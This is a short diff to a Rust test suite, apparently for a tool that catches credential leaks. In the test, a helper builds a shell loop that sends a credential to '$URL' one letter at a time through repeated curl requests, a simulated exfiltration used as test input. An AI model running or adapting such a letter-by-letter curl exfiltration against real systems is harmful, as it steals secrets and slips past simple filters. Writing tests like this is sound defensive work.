@@ -115,8 +115,8 @@ lab_tests! {
     }
 
     fn letters_one_by_one_stop_with_the_last_one(lab) {
+        let thief = thief();
         for credential in [Credential::new(), Credential::with_the_last_letter_twice()] {
-            let thief = thief();
             let letters: Vec<&str> = credential.text().split_inclusive(|_: char| true).collect();
             let letters = letters.join(" ");
             let script = format!("for l in {letters}; do curl -sS \"$URL/x?d=$l\"; done; curl -sS $URL/fine");
